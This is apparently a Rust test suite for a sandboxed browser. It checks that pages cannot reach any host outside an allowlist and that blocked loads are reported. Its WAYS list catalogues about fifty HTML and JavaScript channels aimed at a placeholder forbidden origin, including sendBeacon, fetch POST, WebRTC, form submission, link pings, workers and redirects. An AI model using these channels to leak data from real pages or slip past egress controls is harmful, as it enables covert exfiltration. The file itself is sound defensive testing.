//! A page that tries every way to reach a forbidden host, and a server that counts requests.

use crate::site::{Only, Site, answer, html};
use deputy_browser::{Browser, Until};
use std::net::UdpSocket;
use std::sync::Arc;
use std::time::Duration;

/// The ways in which a page can send something elsewhere. `{to}` is the forbidden origin, `{host}` its host and port.
const WAYS: &[&str] = &[
    "<img src='{to}/img'>",
    "<img srcset='{to}/srcset 2x'>",
    "<picture><source srcset='{to}/picture'><img src=data:,></picture>",
    "<script src='{to}/script'></script>",
    "<script type=module src='{to}/module'></script>",
    "<link rel=stylesheet href='{to}/style'>",
    "<link rel=icon href='{to}/icon'>",
    "<link rel=preload as=fetch href='{to}/preload' crossorigin>",
    "<link rel=modulepreload href='{to}/modulepreload'>",
    "<link rel=prefetch href='{to}/prefetch'>",
    "<link rel=prerender href='{to}/prerender'>",
    "<link rel=preconnect href='{to}'>",
    "<link rel=dns-prefetch href='//{host}'>",
    "<link rel=manifest href='{to}/manifest'>",
    "<iframe src='{to}/iframe'></iframe>",
    "<object data='{to}/object'></object>",
    "<embed src='{to}/embed'>",
    "<video src='{to}/video' preload=auto></video>",
    "<video poster='{to}/poster'></video>",
    "<audio src='{to}/audio' preload=auto></audio>",
    "<track src='{to}/track'>",
    "<svg><image href='{to}/svg-image'/><use href='{to}/svg-use#a'/></svg>",
    "<input type=image src='{to}/input'>",
    "<table background='{to}/table'></table>",
    "<style>@import '{to}/import'; @font-face{font-family:x;src:url({to}/font)} body{background:url({to}/background);font-family:x}</style>x",
    "<iframe srcdoc=\"<img src='{to}/srcdoc'>\"></iframe>",
    "<iframe src=\"data:text/html,<img src='{to}/data-frame'>\"></iframe>",
    "<meta http-equiv=refresh content='0;url={to}/refresh'>",
    "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"{to}/speculation\"]}]}</script>",
    "<script>fetch('{to}/fetch',{mode:'no-cors',method:'POST',body:'x'})</script>",
    "<script>navigator.sendBeacon('{to}/beacon','x')</script>",
    "<script>var x=new XMLHttpRequest();x.open('GET','{to}/xhr');x.send()</script>",
    "<script>new WebSocket('ws://{host}/socket')</script>",
    "<script>new EventSource('{to}/events')</script>",
    "<script>open('{to}/open')</script>",
    "<script>location='{to}/location'</script>",
    "<script>var f=document.createElement('form');f.action='{to}/form';f.method='post';document.body.append(f);f.submit()</script>",
    "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('{to}/worker',{mode:'no-cors'})\"])))</script>",
    "<script>new SharedWorker('data:text/javascript,fetch(%22{to}/shared%22,{mode:%22no-cors%22})')</script>",
    "<script>navigator.serviceWorker.register('/worker.js')</script>",
    "<script>import('{to}/dynamic')</script>",
    "<script>new Image().src='{to}/image'</script>",
    "<script>var a=document.createElement('a');a.href='{to}/ping-link';a.ping='{to}/ping';a.textContent='x';document.body.append(a);a.click()</script>",
    "<script>try{new WebTransport('https://{host}/transport')}catch(e){}</script>",
    "<script>var p=new RTCPeerConnection({iceServers:[{urls:'stun:{host}'},{urls:'turn:{host}?transport=tcp',username:'u',credential:'c'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))</script>",
    "<script>CSS.paintWorklet?.addModule('{to}/worklet');new AudioContext().audioWorklet.addModule('{to}/audio-worklet')</script>",
    "<img src='/redirect'>",
    "<iframe src='/redirect'></iframe>",
    "<script>location='/redirect'</script>",
    "<script>history.pushState({},'','/x');location.replace('{to}/replace')</script>",
    "<img src='http://{host}.:80/dot'><img src='//{host}/relative'><img src='http://user@{host}/user'>",
];

#[tokio::test(flavor = "multi_thread")]
async fn no_page_reaches_a_host_off_the_list_in_any_way() {
    let forbidden = Site::new(|_| Some(html("reached"))).await;
    let udp = UdpSocket::bind(forbidden.at).unwrap();
    udp.set_nonblocking(true).unwrap();
    let (to, host) = (forbidden.origin(), forbidden.at.to_string());
    let fill = move |text: &str| text.replace("{to}", &to).replace("{host}", &host);
    let site = Site::new(move |target| {
        let target = target.split('?').next().unwrap_or_default();
        if target == "/redirect" {
            return Some(answer("302 Found", &fill("location: {to}/redirected\r\n"), ""));
        }
        if target == "/worker.js" {
            let worker = fill("self.onactivate=()=>fetch('{to}/service',{mode:'no-cors'});fetch('{to}/service-start',{mode:'no-cors'})");
            return Some(answer("200 OK", "content-type: text/javascript\r\n", worker));
        }
        let way = target.strip_prefix("/way/")?.parse::<usize>().ok()?;
        Some(html(format!("<body>{}<p>End</p></body>", fill(WAYS[way]))))
    })
    .await;
    let browser = Browser::open(Arc::new(Only(vec![site.origin()]))).await.unwrap();
    for (way, what) in WAYS.iter().enumerate() {
        let page = browser.navigate(&site.url(&format!("/way/{way}")), Until::Loaded).await;
        let page = page.unwrap_or_else(|error| panic!("{}: {error}", what));
        assert!(
            !page.now.lines.iter().any(|line| line.contains("reached")),
            "{}: {:?}",
            what,
            page.now.lines
        );
        assert!(page.now.url.starts_with(&site.origin()), "{}: {}", what, page.now.url);
        // Wait for late requests.
        let _ = browser.wait(&Until::Text("never".into()), Duration::from_millis(150)).await;
        for tab in 2..20 {
            let _ = browser.close(tab).await;
        }
    }
    assert!(WAYS.len() > 40);
    assert_eq!(forbidden.asked(), Vec::<String>::new());
    assert_eq!(forbidden.connections(), 0);
    assert!(udp.recv_from(&mut [0; 64]).is_err(), "a datagram came");

    // The same address opens once it is allowed, so the server does count requests.
    let both = Browser::open(Arc::new(Only(vec![site.origin(), forbidden.origin()]))).await.unwrap();
    both.navigate(&site.url("/way/0"), Until::Loaded).await.unwrap();
    assert_eq!(forbidden.asked(), ["GET /img"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_was_not_loaded_is_told_and_the_page_stays() {
    let other = Site::new(|_| Some(html("other"))).await;
    let to = other.origin();
    let site = Site::new(move |target| {
        (target == "/").then(|| html(format!("<img src='{to}/a'><a href='{to}/page'>Leave</a>")))
    })
    .await;
    let browser = Browser::open(Arc::new(Only(vec![site.origin()]))).await.unwrap();
    let page = browser.navigate(&site.url("/"), Until::Loaded).await.unwrap();
    assert_eq!(page.blocked.keys().cloned().collect::<Vec<_>>(), [other.origin()]);
    let link = crate::site::reference(&page, "\"Leave\"");
    let stayed = browser.click(&link, &deputy_browser::Info::default()).await.unwrap();
    assert_eq!((stayed.now.url, stayed.blocked.len()), (site.url("/"), 1));
    assert_eq!(other.connections(), 0);
}
